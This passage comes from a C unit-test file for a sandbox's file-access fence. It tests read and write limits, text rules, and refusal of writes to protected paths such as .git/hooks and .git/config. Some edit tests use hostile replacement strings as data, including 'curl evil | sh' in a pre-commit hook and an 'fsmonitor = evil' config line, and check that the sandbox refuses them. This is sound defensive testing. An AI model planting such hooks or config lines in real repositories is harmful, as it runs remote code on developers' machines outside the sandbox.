			char *got = dsb_test_read_file(check, NULL);
			assert_non_null(got);
			assert_string_equal(got, eq + 1);
			free(got);
			free(check);
		}
		if (c->mode != DFA)
			assert_outside_untouched(fx);
		assert_absent(fx, "@/ws/nodir");
		assert_symlink(fx, "@/ws/dangling-out");
		assert_symlink(fx, "@/ws/final-out");
		assert_no_temp_files(fx);
		dsb_fs_edit_result_done(&res);
		free(before);
		free(after);
		free(path);
	}
}

/* --- read (dsh-compat §7.6: not fenced)
 * --------------------------------------------------------------
 */

typedef struct read_case {
	const char *path;
	const char *content; /* written to @/ws/r first, unless NULL */
	size_t content_len;
	dsb_code code;
	const char *want; /* the text, or the message */
	size_t want_len;
} read_case;

static const read_case read_cases[] = {
	{"@/ws/r", "hello\n", 0, DSB_OK, "hello\n", 0},
	{"r", "\xef\xbb\xbfhi", 0, DSB_OK, "hi", 0},
	{"r", "", 0, DSB_OK, "", 0},
	{"r", "a\r\nb", 0, DSB_OK, "a\r\nb", 0},
	{"@/out/secret", NULL, 0, DSB_OK, "secret\n", 0},
	{"final-out", NULL, 0, DSB_OK, "secret\n", 0},
	{"hard", NULL, 0, DSB_OK, "outside\n", 0},
	{"none", NULL, 0, DSB_E_FS_NOT_FOUND, "cannot read \"@/ws/none\": not found", 0},
	{"sub", NULL, 0, DSB_E_FS_NOT_REGULAR_FILE, "cannot read \"@/ws/sub\": not a regular file",
	 0},
	{"r", "a\0b", 3, DSB_E_FS_NOT_TEXT, "cannot read \"@/ws/r\": binary file", 0},
	{"r", "\xff", 0, DSB_E_FS_NOT_TEXT, "cannot read \"@/ws/r\": invalid UTF-8 text", 0},
	{"blocker/x", NULL, 0, DSB_E_FS_NOT_FOUND,
	 "cannot resolve \"@/ws/blocker/x\": a parent path segment is not a directory", 0},
	{"", NULL, 0, DSB_E_FS_NOT_FOUND, "file_path must be a non-empty string", 0},
};

static void test_read(void **state)
{
	const fixture *fx = *state;

	for (size_t i = 0; i < sizeof(read_cases) / sizeof(read_cases[0]); i++) {
		const read_case *c = &read_cases[i];
		char *path = expand(fx, c->path), *file = expand(fx, "@/ws/r");
		char *text = NULL;
		size_t len = 0;
		dsb_error err = {0};

		print_message("read %s\n", c->path);
		if (c->content)
			dsb_test_write_file(file, c->content,
					    c->content_len ? c->content_len : strlen(c->content));
		int r = dsb_fs_read(fx->ws, path, &text, &len, &err);
		assert_error(r, &err, c->code, fx, c->code == DSB_OK ? NULL : c->want);
		if (c->code == DSB_OK) {
			assert_int_equal(len, strlen(c->want));
			assert_string_equal(text, c->want);
		} else {
			assert_null(text);
		}
		free(text);
		free(path);
		free(file);
	}
}

/* A NUL past the 8 KiB sample is text to DSH's read (valid UTF-8) but binary to its edit. */
static void test_read_nul_after_sample(void **state)
{
	const fixture *fx = *state;
	dsb_exec_policy p = policy_of(fx, WW);
	char buf[FENCE_BINARY_SAMPLE + 2];
	char *text = NULL;
	size_t len = 0;
	dsb_error err = {0};

	memset(buf, 'a', sizeof(buf));
	buf[FENCE_BINARY_SAMPLE + 1] = '\0';
	char *path = expand(fx, "@/ws/late-nul");
	dsb_test_write_file(path, buf, sizeof(buf));
	assert_int_equal(dsb_fs_read(fx->ws, path, &text, &len, &err), 0);
	assert_int_equal(len, sizeof(buf));
	free(text);
	buf[FENCE_BINARY_SAMPLE - 1] = '\0';
	dsb_test_write_file(path, buf, sizeof(buf));
	assert_int_equal(dsb_fs_read(fx->ws, path, &text, &len, &err), -DSB_E_FS_NOT_TEXT);
	assert_int_equal(dsb_fence_edit(&p, fx->ws, path, "a", "b", true, NULL, &err),
			 -DSB_E_FS_NOT_TEXT);
	free(path);
}

/* Past FENCE_MAX_BYTES (a sparse file): FS_TOO_LARGE with DSH's byte-limit text. */
static void test_too_large(void **state)
{
	const fixture *fx = *state;
	dsb_exec_policy p = policy_of(fx, WW);
	char *path = expand(fx, "@/ws/big");
	char *text = NULL;
	dsb_error err = {0};

	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	assert_true(fd >= 0);
	assert_int_equal(ftruncate(fd, (off_t)FENCE_MAX_BYTES + 1), 0);
	assert_int_equal(close(fd), 0);
	assert_int_equal(dsb_fs_read(fx->ws, path, &text, NULL, &err), -DSB_E_FS_TOO_LARGE);
	assert_error(-DSB_E_FS_TOO_LARGE, &err, DSB_E_FS_TOO_LARGE, fx,
		     "cannot read \"@/ws/big\": 67108865 bytes exceeds the 67108864-byte limit");
	assert_int_equal(dsb_fence_edit(&p, fx->ws, path, "a", "b", false, NULL, &err),
			 -DSB_E_FS_TOO_LARGE);
	assert_error(-DSB_E_FS_TOO_LARGE, &err, DSB_E_FS_TOO_LARGE, fx,
		     "cannot edit \"@/ws/big\": 67108865 bytes exceeds the 67108864-byte limit");

	/* a write past the limit is refused before anything is made, with the same text */
	char *content = malloc(FENCE_MAX_BYTES + 1);
	assert_non_null(content);
	memset(content, 'x', FENCE_MAX_BYTES + 1);
	assert_int_equal(
		dsb_fence_write(&p, fx->ws, "new/big", content, FENCE_MAX_BYTES + 1, NULL, &err),
		-DSB_E_FS_TOO_LARGE);
	assert_error(-DSB_E_FS_TOO_LARGE, &err, DSB_E_FS_TOO_LARGE, fx,
		     "cannot write \"@/ws/new/big\": 67108865 bytes exceeds the 67108864-byte "
		     "limit");
	assert_absent(fx, "@/ws/new");
	/* the limit itself is fine */
	assert_int_equal(dsb_fence_write(&p, fx->ws, "big", content, FENCE_MAX_BYTES, NULL, &err),
			 0);

	/* an edit whose result would pass the limit is refused before it is built */
	put(fx, "@/ws/grow", "", 0644);
	dsb_test_write_file(path, content, (size_t)1024 * 1024 + 1);
	free(content);
	char new[65];
	memset(new, 'y', 64);
	new[64] = '\0';
	assert_int_equal(dsb_fence_edit(&p, fx->ws, path, "x", new, true, NULL, &err),
			 -DSB_E_FS_TOO_LARGE);
	assert_error(-DSB_E_FS_TOO_LARGE, &err, DSB_E_FS_TOO_LARGE, fx,
		     "cannot edit \"@/ws/big\": 67108928 bytes exceeds the 67108864-byte limit");
	size_t got = 0;
	free(dsb_test_read_file(path, &got));
	assert_int_equal(got, (size_t)1024 * 1024 + 1);
	free(path);
}

/* Seconds since @t0 on the monotonic clock. */
static double seconds_since(const struct timespec *t0)
{
	struct timespec t1;
	(void)clock_gettime(CLOCK_MONOTONIC, &t1);
	return (double)(t1.tv_sec - t0->tv_sec) + (double)(t1.tv_nsec - t0->tv_nsec) / 1e9;
}

/*
 * The edit search is linear (issue 13 item 8), in the ASan build too: 8 MB of near-matches for
 * a long pattern (quadratic for a naive scan), 8 MB of matches for replace_all (quadratic for a
 * memmem() loop under ASan, which checks the rest of the text on every call), and the same
 * through the CRLF-folding search. A quadratic search takes minutes here; the bound is loose.
 */
static void test_edit_search_is_linear(void **state)
{
	const size_t n = (size_t)8 * 1024 * 1024, m = 4096;
	char *text = malloc(n + 1), *pat = malloc(m + 1), *out = NULL;
	size_t out_len = 0, count = 0;
	struct timespec t0;
	(void)state;

	assert_non_null(text);
	assert_non_null(pat);
	memset(text, 'a', n);
	text[n] = '\0';
	memset(pat, 'a', m - 1);
	pat[m - 1] = 'b';
	pat[m] = '\0';
	(void)clock_gettime(CLOCK_MONOTONIC, &t0);
	assert_int_equal(text_apply_edit(text, n, pat, m, "x", 1, false, &out, &out_len, &count),
			 TEXT_EDIT_NOT_FOUND);
	assert_int_equal(count, 0);
	text[n - 1] = 'b';
	assert_int_equal(text_edit_splice("", 0, text, n, true, pat, m, "x", 1, false, SIZE_MAX,
					  &out, &out_len, &count),
			 TEXT_EDIT_OK);
	assert_int_equal(count, 1);
	assert_int_equal(out_len, n - m + 1);
	assert_int_equal(out[out_len - 1], 'x');
	free(out);
	double near = seconds_since(&t0);

	for (size_t i = 0; i < n; i += 2)
		memcpy(text + i, i % 4 ? "\r\n" : "ab", 2);
	(void)clock_gettime(CLOCK_MONOTONIC, &t0);
	assert_int_equal(text_apply_edit(text, n, "ab", 2, "c", 1, true, &out, &out_len, &count),
			 TEXT_EDIT_OK);
	assert_int_equal(count, n / 4);
	assert_int_equal(out_len, n - n / 4);
	free(out);
	assert_int_equal(text_edit_splice("", 0, text, n, true, "b\na", 3, "-", 1, true, SIZE_MAX,
					  &out, &out_len, &count),
			 TEXT_EDIT_OK);
	assert_int_equal(count, n / 4 - 1);
	/* "ab\r\nab\r\n...": every "b\r\na" folds to a match, each ending where the next starts */
	assert_memory_equal(out, "a---", 4);
	assert_memory_equal(out + out_len - 4, "-b\r\n", 4);
	free(out);
	double many = seconds_since(&t0);
	print_message("near-matches %.3f s, many matches %.3f s\n", near, many);
	assert_true(near < 10.0);
	assert_true(many < 10.0);
	free(text);
	free(pat);
}

/* --- protected paths (beyond DSH; docs/design/protected-paths.md) ----------------------------
 *
 *   B/ws/.git/hooks/               protected (git), exists
 *   B/ws/.git/info                 protected (git), missing: listed by the path it will have
 *   B/ws/.git/config               protected (git), a file
 *   B/ws/.git/hooks2/              a sibling whose name extends "hooks": not protected
 *   B/ws/h -> .git/hooks           `ln -s .git/hooks h`
 *   B/ws/secrets/key               B/ws/secrets is hidden (denyRead)
 *   B/out/secret                   hidden (denyRead), a file outside every root
 */

#define GIT_WHY		     "git runs hooks and reads its config outside the sandbox"
#define HIDDEN_WHY	     "sandbox-policy.denyRead hides it"
#define PROTECTED(path, why) "\n[sandbox: " path " is protected: " why "]"
#define N_PROTECTED	     5

static void make_protected_tree(const fixture *fx)
{
	make_dir(fx, "@/ws/.git");
	make_dir(fx, "@/ws/.git/hooks");
	make_dir(fx, "@/ws/.git/hooks2");
	make_dir(fx, "@/ws/secrets");
	put(fx, "@/ws/.git/config", "[core]\n", 0644);
	put(fx, "@/ws/.git/hooks/pre-commit", "#!/bin/sh\nexit 0\n", 0755);
	put(fx, "@/ws/secrets/key", "key\n", 0600);
	char *h = expand(fx, "@/ws/h");
	assert_int_equal(symlink(".git/hooks", h), 0);
	free(h);
}

/* The call's protected list as dsb_policy_resolve() would give it, in @v (freed by the caller). */
static dsb_exec_policy protected_policy(const fixture *fx, dsb_mode mode,
					dsb_protected v[N_PROTECTED])
{
	static const struct {
		const char *path;
		dsb_protect_kind kind;
		bool directory, exists;
	} list[N_PROTECTED] = {
		{"@/ws/.git/hooks", DSB_PROTECT_GIT, true, true},
		{"@/ws/.git/info", DSB_PROTECT_GIT, true, false},
		{"@/ws/.git/config", DSB_PROTECT_GIT, false, true},
		{"@/ws/secrets", DSB_PROTECT_DENY_READ, true, true},
		{"@/out/secret", DSB_PROTECT_DENY_READ, false, true},
	};
	dsb_exec_policy p = policy_of(fx, mode);

	for (size_t i = 0; i < N_PROTECTED; i++)
		v[i] = (dsb_protected){.path = expand(fx, list[i].path),
				       .kind = list[i].kind,
				       .directory = list[i].directory,
				       .exists = list[i].exists};
	p.protected = v;
	p.n_protected = N_PROTECTED;
	return p;
}

static void protected_done(dsb_protected v[N_PROTECTED])
{
	for (size_t i = 0; i < N_PROTECTED; i++)
		free(v[i].path);
}

typedef struct protected_case {
	const char *path;
	dsb_code code;
	const char *message; /* NULL: not compared */
	const char *absent;  /* must not exist after */
} protected_case;

static const protected_case protected_writes[] = {
	/* into a protected directory: DSH's text, then the line naming it */
	{".git/hooks/post-checkout", DSB_E_FS_SANDBOX_DENIED,
	 DENIED_WW("@/ws/.git/hooks/post-checkout") PROTECTED("@/ws/.git/hooks", GIT_WHY),
	 "@/ws/.git/hooks/post-checkout"},
	{"@/ws/.git/hooks/pre-commit", DSB_E_FS_SANDBOX_DENIED,
	 DENIED_WW("@/ws/.git/hooks/pre-commit") PROTECTED("@/ws/.git/hooks", GIT_WHY), NULL},
	/* the protected directory itself */
	{".git/hooks", DSB_E_FS_SANDBOX_DENIED,
	 DENIED_WW("@/ws/.git/hooks") PROTECTED("@/ws/.git/hooks", GIT_WHY), NULL},
	/* through a symlink inside the workspace: the key is the realpath */
	{"h/pre-commit", DSB_E_FS_SANDBOX_DENIED,
	 DENIED_WW("@/ws/h/pre-commit") PROTECTED("@/ws/.git/hooks", GIT_WHY), NULL},
	{"h/new-hook", DSB_E_FS_SANDBOX_DENIED,
	 DENIED_WW("@/ws/h/new-hook") PROTECTED("@/ws/.git/hooks", GIT_WHY),
	 "@/ws/.git/hooks/new-hook"},
	{"sub/../.git/./hooks/x", DSB_E_FS_SANDBOX_DENIED,
	 DENIED_WW("@/ws/.git/hooks/x") PROTECTED("@/ws/.git/hooks", GIT_WHY), "@/ws/.git/hooks/x"},
	/* a missing protected directory: a write that would create it is refused */
	{".git/info/exclude", DSB_E_FS_SANDBOX_DENIED,
	 DENIED_WW("@/ws/.git/info/exclude") PROTECTED("@/ws/.git/info", GIT_WHY),
	 "@/ws/.git/info"},
	{".git/info/deep/er", DSB_E_FS_SANDBOX_DENIED, NULL, "@/ws/.git/info"},
	/* a protected file */
	{".git/config", DSB_E_FS_SANDBOX_DENIED,
	 DENIED_WW("@/ws/.git/config") PROTECTED("@/ws/.git/config", GIT_WHY), NULL},
	/* what is hidden from reads is not writable either */
	{"secrets/new", DSB_E_FS_SANDBOX_DENIED,
	 DENIED_WW("@/ws/secrets/new") PROTECTED("@/ws/secrets", HIDDEN_WHY), "@/ws/secrets/new"},
	/* unprotected siblings are written as ever */
	{".git/hooks2/x", DSB_OK, NULL, NULL},
	{".git/description", DSB_OK, NULL, NULL},
	{".git/config.lock", DSB_OK, NULL, NULL},
	{"hooks.txt", DSB_OK, NULL, NULL},
};

static void test_protected_write(void **state)
{
	const fixture *fx = *state;
	dsb_protected v[N_PROTECTED];
	dsb_exec_policy p;

	make_protected_tree(fx);
	p = protected_policy(fx, WW, v);
	for (size_t i = 0; i < sizeof(protected_writes) / sizeof(protected_writes[0]); i++) {
		const protected_case *c = &protected_writes[i];
		char *path = expand(fx, c->path);
		dsb_error err = {0};

		print_message("write %s\n", c->path);
		int r = dsb_fence_check(&p, fx->ws, path, &err);
		assert_error(r, &err, c->code, fx, c->message);
		r = dsb_fence_write(&p, fx->ws, path, NEW_CONTENT, strlen(NEW_CONTENT), NULL, &err);
		assert_error(r, &err, c->code, fx, c->message);
		if (c->code != DSB_OK)
			assert_int_equal(err.sys_errno, 0);
		if (c->absent)
			assert_absent(fx, c->absent);
		free(path);
	}
	assert_content(fx, "@/ws/.git/hooks/pre-commit", "#!/bin/sh\nexit 0\n");
	assert_content(fx, "@/ws/.git/config", "[core]\n");
	assert_content(fx, "@/ws/.git/hooks2/x", NEW_CONTENT);
	assert_content(fx, "@/ws/hooks.txt", NEW_CONTENT);
	assert_symlink(fx, "@/ws/h");
	assert_int_equal(count_entries(fx, "@/ws/.git/hooks"), 1);

	/* read-only refuses first, with DSH's text alone */
	p.mode = RO;
	dsb_error err = {0};
	int r = dsb_fence_write(&p, fx->ws, ".git/hooks/x", "x", 1, NULL, &err);
	assert_error(r, &err, DSB_E_FS_SANDBOX_DENIED, fx, DENIED_RO("@/ws/.git/hooks/x"));
	protected_done(v);
	assert_outside_untouched(fx);
	assert_no_temp_files(fx);
}

/* An edit of a protected file is refused before it is read, and the file is unchanged. */
static void test_protected_edit(void **state)
{
	const fixture *fx = *state;
	dsb_protected v[N_PROTECTED];
	dsb_exec_policy p;
	dsb_error err = {0};
	dsb_fs_edit_result res = {0};

	make_protected_tree(fx);
	p = protected_policy(fx, WW, v);
	int r = dsb_fence_edit(&p, fx->ws, ".git/hooks/pre-commit", "exit 0", "curl evil | sh",
			       false, &res, &err);
	assert_error(r, &err, DSB_E_FS_SANDBOX_DENIED, fx,
		     DENIED_WW("@/ws/.git/hooks/pre-commit") PROTECTED("@/ws/.git/hooks", GIT_WHY));
	assert_null(res.display_path);
	r = dsb_fence_edit(&p, fx->ws, "h/pre-commit", "exit 0", "curl evil | sh", false, NULL,
			   &err);
	assert_error(r, &err, DSB_E_FS_SANDBOX_DENIED, fx,
		     DENIED_WW("@/ws/h/pre-commit") PROTECTED("@/ws/.git/hooks", GIT_WHY));
	r = dsb_fence_edit(&p, fx->ws, ".git/config", "[core]", "[core]\n\tfsmonitor = evil", false,
			   NULL, &err);
	assert_error(r, &err, DSB_E_FS_SANDBOX_DENIED, fx,
		     DENIED_WW("@/ws/.git/config") PROTECTED("@/ws/.git/config", GIT_WHY));
	assert_content(fx, "@/ws/.git/hooks/pre-commit", "#!/bin/sh\nexit 0\n");
	assert_content(fx, "@/ws/.git/config", "[core]\n");

	/* an unprotected file beside them is edited */
	r = dsb_fence_edit(&p, fx->ws, "file.txt", "original", "edited", false, NULL, &err);
	assert_error(r, &err, DSB_OK, fx, NULL);
	assert_content(fx, "@/ws/file.txt", "edited\n");
	protected_done(v);
	assert_no_temp_files(fx);
}

typedef struct hidden_case {
	dsb_mode mode;
	const char *path;
	dsb_code code;
	const char *want; /* the text read, or the message */
} hidden_case;

#define HIDDEN(mode, p, hidden)                                 \
	"cannot read \"" p "\": file access denied under " mode \
	" mode" PROTECTED(hidden, HIDDEN_WHY)

static const hidden_case hidden_reads[] = {
	{WW, "secrets/key", DSB_E_FS_SANDBOX_DENIED,
	 HIDDEN("workspace-write", "@/ws/secrets/key", "@/ws/secrets")},
	{RO, "@/ws/secrets/key", DSB_E_FS_SANDBOX_DENIED,
	 HIDDEN("read-only", "@/ws/secrets/key", "@/ws/secrets")},
	/* a hidden file outside every root, directly and through a symlink in the workspace */
	{RO, "@/out/secret", DSB_E_FS_SANDBOX_DENIED,
	 HIDDEN("read-only", "@/out/secret", "@/out/secret")},
	{WW, "final-out", DSB_E_FS_SANDBOX_DENIED,
	 HIDDEN("workspace-write", "@/ws/final-out", "@/out/secret")},
	{WW, "link-out/secret", DSB_E_FS_SANDBOX_DENIED,
	 HIDDEN("workspace-write", "@/ws/link-out/secret", "@/out/secret")},
	/* a missing file in a hidden directory is not even said to be missing */
	{WW, "secrets/none", DSB_E_FS_SANDBOX_DENIED,
	 HIDDEN("workspace-write", "@/ws/secrets/none", "@/ws/secrets")},
	/* the rest reads as dsb_fs_read(): write-protected is not hidden */
	{WW, "file.txt", DSB_OK, "original\n"},
	{RO, "final-in", DSB_OK, "original\n"},
	{WW, ".git/config", DSB_OK, "[core]\n"},
	{WW, "h/pre-commit", DSB_OK, "#!/bin/sh\nexit 0\n"},
	{RO, "@/out/hard-src", DSB_OK, "outside\n"},
	{WW, "nothere", DSB_E_FS_NOT_FOUND, "cannot read \"@/ws/nothere\": not found"},
	{WW, "sub", DSB_E_FS_NOT_REGULAR_FILE, "cannot read \"@/ws/sub\": not a regular file"},
};

static void test_protected_read(void **state)
{
	const fixture *fx = *state;
	dsb_protected v[N_PROTECTED];

	make_protected_tree(fx);
	for (size_t i = 0; i < sizeof(hidden_reads) / sizeof(hidden_reads[0]); i++) {
		const hidden_case *c = &hidden_reads[i];
		dsb_exec_policy p = protected_policy(fx, c->mode, v);
		char *path = expand(fx, c->path);
		char *text = NULL;
		size_t len = 0;
		dsb_error err = {0};

		print_message("read %s\n", c->path);
		int r = dsb_fence_read(&p, fx->ws, path, &text, &len, &err);
		assert_error(r, &err, c->code, fx, c->code == DSB_OK ? NULL : c->want);
		if (c->code == DSB_OK) {
			assert_int_equal(len, strlen(c->want));
			assert_string_equal(text, c->want);
		} else {
			assert_null(text);
		}
		free(text);
		free(path);
		protected_done(v);
	}

	/* dsb_fs_read() knows no policy: it reads what the policy hides */
	char *text = NULL;
	dsb_error err = {0};
	assert_int_equal(dsb_fs_read(fx->ws, "secrets/key", &text, NULL, &err), 0);
	assert_string_equal(text, "key\n");
	free(text);
	/* nor does a policy without protected paths */
	dsb_exec_policy plain = policy_of(fx, RO);
	text = NULL;
	assert_int_equal(dsb_fence_read(&plain, fx->ws, "secrets/key", &text, NULL, &err), 0);
	assert_string_equal(text, "key\n");
	free(text);
}

/* danger-full-access confines nothing: neither the protected writes nor the hidden reads. */
static void test_protected_full_access(void **state)
{
	const fixture *fx = *state;
	dsb_protected v[N_PROTECTED];
	dsb_exec_policy p;
	dsb_error err = {0};
	char *text = NULL;

	make_protected_tree(fx);
	p = protected_policy(fx, DFA, v);
	assert_error(dsb_fence_write(&p, fx->ws, ".git/hooks/pre-commit", NEW_CONTENT,
				     strlen(NEW_CONTENT), NULL, &err),
		     &err, DSB_OK, fx, NULL);
	assert_content(fx, "@/ws/.git/hooks/pre-commit", NEW_CONTENT);
	assert_error(dsb_fence_write(&p, fx->ws, "h/post-merge", NEW_CONTENT, strlen(NEW_CONTENT),
				     NULL, &err),
		     &err, DSB_OK, fx, NULL);
	assert_content(fx, "@/ws/.git/hooks/post-merge", NEW_CONTENT);
	assert_error(
		dsb_fence_edit(&p, fx->ws, ".git/config", "[core]", "[user]", false, NULL, &err),
		&err, DSB_OK, fx, NULL);
	assert_content(fx, "@/ws/.git/config", "[user]\n");
	assert_error(dsb_fence_read(&p, fx->ws, "secrets/key", &text, NULL, &err), &err, DSB_OK, fx,
		     NULL);
	assert_string_equal(text, "key\n");
	free(text);
	protected_done(v);
}

/*
 * The list dsb_policy_resolve() gives, end to end: a checkout's hooks (missing yet: resolve
 * lists them, the confinement makes them) and a denyRead directory outside the workspace.
 */
static void test_protected_resolved(void **state)
{
	const fixture *fx = *state;
	dsb_config *cfg = NULL;
	dsb_policy *policy = NULL;
	dsb_exec_policy p = {0};
	dsb_resolve_request req = DSB_RESOLVE_REQUEST_INIT;
	dsb_error err = {0};
	char *text = NULL;

	make_dir(fx, "@/ws/.git");
	char *yaml = expand(fx, "sandbox-policy:\n"
				"  mode: workspace-write\n"
				"  workspaceRoot: \"@/ws\"\n"
				"  denyRead: [\"@/out\"]\n");
	assert_int_equal(dsb_config_parse(yaml, strlen(yaml), "test", &cfg, &err), 0);
	assert_int_equal(dsb_policy_new(cfg, &policy, &err), 0);
	assert_int_equal(dsb_policy_resolve(policy, &req, &p, &err), 0);
	assert_string_equal(p.workspace_root, fx->ws);

	int r = dsb_fence_write(&p, fx->ws, ".git/hooks/pre-push", "x", 1, NULL, &err);
	assert_error(r, &err, DSB_E_FS_SANDBOX_DENIED, fx,
		     DENIED_WW("@/ws/.git/hooks/pre-push") PROTECTED("@/ws/.git/hooks", GIT_WHY));
	assert_absent(fx, "@/ws/.git/hooks");
	char *secret = expand(fx, "@/out/secret");
	r = dsb_fence_read(&p, fx->ws, secret, &text, NULL, &err);
	free(secret);
	assert_error(r, &err, DSB_E_FS_SANDBOX_DENIED, fx,
		     HIDDEN("workspace-write", "@/out/secret", "@/out"));
	assert_null(text);
	r = dsb_fence_write(&p, fx->ws, ".git/HEAD", "ref: refs/heads/main\n", 21, NULL, &err);
	assert_error(r, &err, DSB_OK, fx, NULL);
	r = dsb_fence_read(&p, fx->ws, "file.txt", &text, NULL, &err);
	assert_error(r, &err, DSB_OK, fx, NULL);
	assert_string_equal(text, "original\n");
	free(text);

	dsb_exec_policy_done(&p);
	dsb_policy_free(policy);
	dsb_config_free(cfg);
	free(yaml);
}

/*
 * Without openat2 a policy that hides something fails closed on reads (what is hidden is still
 * refused as such, by the check); without anything hidden a read needs no openat2.
 */
static int expect_read_fail_closed(const fixture *fx)
{
	dsb_protected v[N_PROTECTED];
	dsb_exec_policy p = protected_policy(fx, WW, v), plain = policy_of(fx, WW);
	dsb_error err = {0};
	char *text = NULL;
	int status = 1;

	int r = dsb_fence_read(&p, fx->ws, "file.txt", &text, NULL, &err);
	if (r != -DSB_E_FENCE_UNAVAILABLE || text ||
	    strcmp(err.message, "the fs fence needs openat2 (Linux 5.6+) to keep "
				"sandbox-policy.denyRead hidden; nothing was read") != 0)
		goto out;
	if (dsb_fence_read(&p, fx->ws, "secrets/key", &text, NULL, &err) !=
	    -DSB_E_FS_SANDBOX_DENIED)
		goto out;
	if (dsb_fence_check(&p, fx->ws, ".git/hooks/x", &err) != -DSB_E_FS_SANDBOX_DENIED ||
	    !strstr(err.message, " is protected: " GIT_WHY "]"))
		goto out;
	if (dsb_fence_read(&plain, fx->ws, "file.txt", &text, NULL, &err) != 0 ||
	    strcmp(text, "original\n") != 0)
		goto out;
	status = 0;
out:
	if (status)
		fprintf(stderr, "expect_read_fail_closed: %s\n", err.message);
	free(text);
	protected_done(v);
	return status;
}

static int child_read_enosys(void *arg)
{
	const fixture *fx = arg;
	if (dsb_test_hide_openat2(ENOSYS))
		return 2;
	return expect_read_fail_closed(fx);
}

static void test_protected_read_fail_closed(void **state)
{
	const fixture *fx = *state;

	make_protected_tree(fx);
	if (!have_openat2()) {
		assert_int_equal(expect_read_fail_closed(fx), 0);
		return;
	}
#if !defined(__x86_64__) && !defined(__aarch64__)
	skip(); /* dsb_test_hide_openat2() knows these architectures only */
#endif
	assert_int_equal(dsb_test_run_in_child(child_read_enosys, (void *)fx), 0);
}

/* --- the pure text rules ------------------------------------------------------------------------
 */

/* Copies the bytes of @s (without its NUL) to @buf at @at; returns the new end. */
static size_t append_bytes(char *buf, size_t at, const char *s)
{
	for (; *s; s++)
		buf[at++] = *s;
	return at;
}

static void test_text_rules(void **state)
{
	static const struct {
		const char *s;
		size_t len;
		bool valid;
	} utf8[] = {
		{"", 0, true},
		{"ascii", 5, true},
		{"\xc2\x80", 2, true},
		{"\xdf\xbf", 2, true},
		{"\xe0\xa0\x80", 3, true},
		{"\xef\xbf\xbf", 3, true},
		{"\xf0\x90\x80\x80", 4, true},
		{"\xf4\x8f\xbf\xbf", 4, true},
		{"\xc0\x80", 2, false},		/* overlong NUL */
		{"\xc1\xbf", 2, false},		/* overlong */
		{"\xe0\x9f\xbf", 3, false},	/* overlong */
		{"\xed\xa0\x80", 3, false},	/* surrogate */
		{"\xf0\x8f\xbf\xbf", 4, false}, /* overlong */
		{"\xf4\x90\x80\x80", 4, false}, /* past U+10FFFF */
		{"\xf5\x80\x80\x80", 4, false},
		{"\x80", 1, false},
		{"\xe2\x82", 2, false}, /* truncated */
		{"a\0b", 3, true},
	};
	(void)state;

	for (size_t i = 0; i < sizeof(utf8) / sizeof(utf8[0]); i++)
		assert_int_equal(text_utf8_valid(utf8[i].s, utf8[i].len), utf8[i].valid);

	assert_true(js_blank(""));
	assert_true(js_blank("\t\v\f \xe2\x80\xa8\xe2\x80\x8a\xe1\x9a\x80"));
	assert_false(js_blank("\xe2\x80\x8b")); /* ZWSP is not white space to JS */
	assert_false(js_blank("\x85"));

	/*
	 * detectLineEndings() samples raw.slice(0, 4096): UTF-16 units, so a 3-byte character
	 * counts one and a 4-byte one two. "\r\n" at units 4094-4095 is in; at 4096-4097, out.
	 */
	char *eol = malloc((size_t)3 * 4096);
	assert_non_null(eol);
	size_t n = 0;
	for (size_t i = 0; i < 4094; i++)
		n = append_bytes(eol, n, "\xe2\x82\xac"); /* U+20AC: 3 bytes, 1 unit */
	n = append_bytes(eol, n, "\r\n");
	assert_int_equal(text_detect_eol(eol, n), TEXT_EOL_CRLF);
	n = 0;
	for (size_t i = 0; i < 2047; i++)
		n = append_bytes(eol, n, "\xf0\x9f\x98\x80"); /* U+1F600: 4 bytes, 2 units */
	assert_int_equal(text_detect_eol(eol, append_bytes(eol, n, "\r\n")), TEXT_EOL_CRLF);
	n = append_bytes(eol, n, "\xf0\x9f\x98\x80\r\n");
	assert_int_equal(text_detect_eol(eol, n), TEXT_EOL_LF);
	free(eol);
	assert_int_equal(text_detect_eol("a\r\nb\nc", 7), TEXT_EOL_LF); /* a tie is LF */
	assert_int_equal(text_detect_eol("a\r\nb\r\nc\n", 9), TEXT_EOL_CRLF);

	char *out = NULL;
	size_t out_len = 0;
	assert_int_equal(
		text_restore_eol("", 0, "a\nb\r\nc\r\rd\n", 10, TEXT_EOL_CRLF, &out, &out_len), 0);
	assert_string_equal(out, "a\r\nb\r\nc\r\rd\r\n");
	assert_int_equal(out_len, 12);
	free(out);
	assert_int_equal(text_restore_eol("P", 1, "a\n", 2, TEXT_EOL_LF, &out, &out_len), 0);
	assert_string_equal(out, "Pa\n");
	free(out);

	char norm[] = "a\r\n\r\r\nb\r";
	assert_int_equal(text_normalize_eol(norm, strlen(norm)), 6);
	assert_string_equal(norm, "a\n\r\nb\r");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_text_rules),
		cmocka_unit_test_setup_teardown(test_resolve, setup, teardown),
		cmocka_unit_test_setup_teardown(test_is_under, setup, teardown),
		cmocka_unit_test_setup_teardown(test_check, setup, teardown),
		cmocka_unit_test_setup_teardown(test_write_table, setup, teardown),
		cmocka_unit_test_setup_teardown(test_write_tmp, setup, teardown),
		cmocka_unit_test_setup_teardown(test_write_fs_root_workspace, setup, teardown),
		cmocka_unit_test_setup_teardown(test_write_modes, setup, teardown),
		cmocka_unit_test_setup_teardown(test_write_bytes, setup, teardown),
		cmocka_unit_test_setup_teardown(test_hard_link, setup, teardown),
		cmocka_unit_test_setup_teardown(test_dangling_dir_link, setup, teardown),
		cmocka_unit_test_setup_teardown(test_proc_fd, setup, teardown),
		cmocka_unit_test_setup_teardown(test_swapped_ancestor, setup, teardown),
		cmocka_unit_test_setup_teardown(test_swapped_final, setup, teardown),
		cmocka_unit_test_setup_teardown(test_identity_anchor, setup, teardown),
		cmocka_unit_test_setup_teardown(test_permission_denied, setup, teardown),
		cmocka_unit_test_setup_teardown(test_fence_unavailable, setup, teardown),
		cmocka_unit_test_setup_teardown(test_replace_keeps_owner, setup, teardown),
		cmocka_unit_test_setup_teardown(test_replace_read_only_file, setup, teardown),
		cmocka_unit_test_setup_teardown(test_stale_version, setup, teardown),
		cmocka_unit_test(test_edit_search_is_linear),
		cmocka_unit_test_setup_teardown(test_edit_table, setup, teardown),
		cmocka_unit_test_setup_teardown(test_read, setup, teardown),
		cmocka_unit_test_setup_teardown(test_read_nul_after_sample, setup, teardown),
		cmocka_unit_test_setup_teardown(test_too_large, setup, teardown),
		cmocka_unit_test_setup_teardown(test_protected_write, setup, teardown),
